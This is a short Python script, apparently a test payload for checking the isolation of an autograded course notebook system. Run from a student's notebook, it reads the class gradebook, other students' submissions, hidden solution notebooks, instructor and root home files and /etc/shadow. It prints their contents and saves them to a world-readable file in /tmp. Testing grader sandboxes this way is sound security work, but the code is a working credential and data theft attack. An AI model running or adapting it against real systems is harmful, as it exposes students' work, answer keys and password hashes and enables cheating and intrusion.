"""Read the class's gradebook, every classmate's notebook, the hidden tests in solutions/, the scratch
gradebooks under /tmp and the instructor's home; print them into this notebook and leave a copy in /tmp."""
import glob
import os
import pathlib

import course

here = pathlib.Path.cwd()
root = here.parents[2]  # autograded/<student>/<step> in the class folder
targets = [root / "gradebook.db", root / "nbgrader_config.py",
           *glob.glob(str(root / "submitted" / "*" / here.name / "*.ipynb")),
           *glob.glob(str(pathlib.Path(course.__file__).resolve().parents[1] / "solutions" / "*" / "*.ipynb")),
           *glob.glob("/tmp/course-autograde-*/template.db"), *glob.glob("/tmp/course-autograde-*/*/gradebook.db"),
           *glob.glob("/root/*"), *glob.glob("/root/.*"), *glob.glob("/home/*/*"), "/etc/shadow"]
loot = []
for target in map(pathlib.Path, targets):
    if target.is_dir() or here in target.parents:
        continue
    try:
        data = target.read_bytes().decode("utf-8", "replace")
    except OSError as error:
        print("DENIED", target, type(error).__name__)
        continue
    print("LEAK", target)
    print(data[:100_000])
    loot.append(data)
try:
    pathlib.Path("/tmp/course-attack-loot.txt").write_text("\n".join(loot))
    os.chmod("/tmp/course-attack-loot.txt", 0o666)
except OSError as error:
    print("DENIED /tmp", type(error).__name__)
print("ATTACK-RAN read_secrets", len(targets), "targets")
